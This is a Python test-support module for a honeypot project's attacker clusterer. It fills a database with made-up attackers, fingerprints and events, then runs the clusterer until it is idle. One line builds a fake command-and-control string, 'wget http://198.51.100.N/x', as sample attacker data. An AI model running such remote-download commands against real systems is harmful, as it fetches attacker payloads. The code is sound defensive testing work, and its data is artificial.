"""A database of made-up attackers, and the clusterers' steps run on it until all is quiet."""

from __future__ import annotations

import contextlib
import datetime as dt
import uuid
from collections.abc import AsyncIterator, Iterable, Mapping
from pathlib import Path
from typing import Any

from sqlalchemy import insert
from sqlalchemy.ext.asyncio import AsyncSession

from decnet.cluster.settings import ClusterSettings
from decnet.context import Context, open_context
from decnet.db.engine import Database
from decnet.db.tables import Attacker, Log
from decnet.settings import Settings
from decnet.workers.clusterer import Clusterer
from tests.support.decnet_env import query

START = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
FIELDS = {
    "ja3": lambda value: {"ja3": f"{int(value):032x}"},
    "hassh": lambda value: {"hassh": f"{int(value):032x}"},
    "ja4": lambda value: {"ja4": f"t13d1516h2_{int(value):012x}_{0:012x}"},
    "payload": lambda value: {"sha256": f"{int(value) + 1:064x}"},
    "c2": lambda value: {"command": f"wget http://198.51.100.{int(value) + 1}/x"},
}


def address(number: int) -> str:
    """An address of 198.18.0.0/15 (RFC 2544)."""
    return f"198.{18 + (number >> 16)}.{number >> 8 & 255}.{number & 255}"


def uuid_of(number: int) -> str:
    """The attacker's uuid: the same in every run."""
    return str(uuid.uuid5(uuid.NAMESPACE_OID, f"attacker {number}"))


def key_fields(key: str) -> dict[str, str]:
    """The fields of an event that shows a key like "ja3:7"."""
    kind, _, value = key.partition(":")
    return FIELDS[kind](value)


@contextlib.asynccontextmanager
async def cluster_context(folder: Path, name: str = "clusterer") -> AsyncIterator[Context]:
    """A worker's context on a new database, or on the one that is there."""
    folder.mkdir(exist_ok=True)
    settings = Settings.from_env({"DECNET_STATE_DIR": str(folder), "DECNET_BUS_ENABLED": "false"})
    if not (folder / "decnet.db").exists():
        await Database(settings.db_url).create_all()
    async with open_context(name, settings, notifies=False) as ctx:
        yield ctx


async def add_attackers(ctx: Context, numbers: Iterable[int], **columns: Any) -> None:
    """Rows of `attackers`."""
    rows = [
        {
            **Attacker(
                uuid=uuid_of(n),
                ip=address(n),
                first_seen=START,
                last_seen=START + dt.timedelta(seconds=n),
            ).model_dump(),
            **columns,
        }
        for n in numbers
    ]
    await ctx.write(lambda session: _insert(session, Attacker, rows))


async def add_events(ctx: Context, shown: Iterable[tuple[int, Mapping[str, str]]]) -> None:
    """Rows of `logs`: (attacker's number, fields)."""
    rows = [
        {
            "timestamp": START,
            "decky": "decky-01",
            "service": "ssh",
            "event_type": "event",
            "attacker_ip": address(number),
            "raw_line": "-",
            "fields": dict(fields),
        }
        for number, fields in shown
    ]
    await ctx.write(lambda session: _insert(session, Log, rows))


async def _insert(session: AsyncSession, table: Any, rows: list[dict[str, Any]]) -> None:
    if rows:
        await session.execute(insert(table), rows)


async def settle(ctx: Context, bucket_most: int = 1000) -> list[tuple[str, dict[str, Any]]]:
    """Tick until there is nothing to do; what was published."""
    clusterer = Clusterer(ctx, ClusterSettings(bucket_most=bucket_most))
    told: list[tuple[str, dict[str, Any]]] = []
    ctx.bus.publish = lambda topic, payload, type=None: bool(  # type: ignore[method-assign]
        told.append((topic, dict(payload))) or True
    )
    await clusterer.prepare()
    while await clusterer.tick():
        pass
    assert "failing" not in clusterer.health(), clusterer.health()
    return told


def groups(folder: Path) -> dict[str, set[str]]:
    """identity -> its addresses, as stored."""
    found: dict[str, set[str]] = {}
    for identity, ip in query(folder / "decnet.db", "SELECT identity_id, ip FROM attackers"):
        found.setdefault(identity, set()).add(ip)
    return found
